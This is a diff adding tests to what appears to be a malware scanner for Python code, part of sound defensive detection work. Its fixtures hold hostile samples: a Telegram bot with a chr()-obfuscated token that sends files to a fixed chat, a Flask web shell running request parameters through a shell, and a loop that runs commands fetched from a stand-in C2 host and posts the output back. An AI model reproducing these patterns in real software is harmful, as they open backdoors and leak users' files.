@@ -95,3 +95,66 @@ test('a chat bot that hands a shell the command lines it is sent is a remote she
   const list = bot.replace('subprocess.Popen(command, shell=True', 'subprocess.Popen(["yt-dlp", command]');
   assert.equal(ruleOf(findings(list), 'reverse-shell'), undefined, 'an argument list runs no shell');
 });
+
+test("a Telegram bot built with a token the package writes (as chr() codes) and sending files is the author's channel", () => {
+  const token = '1234567890:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr';
+  const source = [
+    'from telegram import Bot',
+    'def d(x):',
+    '    return "".join(chr(i) for i in x)',
+    `_B = [${[...token].map((c) => c.charCodeAt(0)).join(', ')}]`,
+    'async def deliver(path):',
+    '    bot = Bot(token=d(_B))',
+    '    await bot.send_document(chat_id="1000", document=open(path, "rb"))',
+  ].join('\n');
+  const channel = ruleOf(findings(source), 'hardcoded-bot-channel');
+  assert.equal(channel?.severity, 'high');
+  assert.equal(channel?.line, 6);
+  const library = source
+    .replace('Bot(token=d(_B))', 'Bot(token=user_token)')
+    .replace('async def deliver(path)', 'async def deliver(path, user_token)');
+  assert.equal(ruleOf(findings(library), 'hardcoded-bot-channel'), undefined, "the user's own token");
+});
+
+test('a web handler that hands a shell the command line a request carries is a web shell; one running its own command is not', () => {
+  const app = [
+    'import subprocess',
+    'from flask import Flask, request',
+    'app = Flask(__name__)',
+    "@app.route('/run')",
+    'def run():',
+    "    cmd = request.args.get('c')",
+    '    out = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)',
+    '    return out.stdout.read()',
+  ].join('\n');
+  const shell = ruleOf(findings(app), 'reverse-shell');
+  assert.equal(shell?.severity, 'high');
+  assert.match(shell!.message, /web shell/);
+  const config = app.replace("cmd = request.args.get('c')", 'cmd = CONFIG["command"]');
+  assert.equal(
+    ruleOf(findings(config), 'reverse-shell'),
+    undefined,
+    'a command from the configuration, not the request',
+  );
+});
+
+test('a loop that runs the command lines a server replies with is a remote shell', () => {
+  const source = [
+    'import subprocess, requests',
+    'def runcommand(value):',
+    '    out = subprocess.run(value, shell=True, capture_output=True)',
+    '    return [out.stdout, out.stderr]',
+    'def poll():',
+    '    link = "https://c2.example.invalid/"',
+    '    while True:',
+    '        resp = requests.get(link)',
+    '        resp = resp.text',
+    '        for line in runcommand(resp):',
+    '            requests.post(link + "output", {"output": line})',
+  ].join('\n');
+  const shell = ruleOf(findings(source), 'reverse-shell');
+  assert.equal(shell?.severity, 'high');
+  assert.match(shell!.message, /replies from a server/);
+  const local = source.replace('for line in runcommand(resp)', 'for line in runcommand(LOCAL_COMMAND)');
+  assert.equal(ruleOf(findings(local), 'reverse-shell'), undefined, 'a command from elsewhere than the reply');
+});
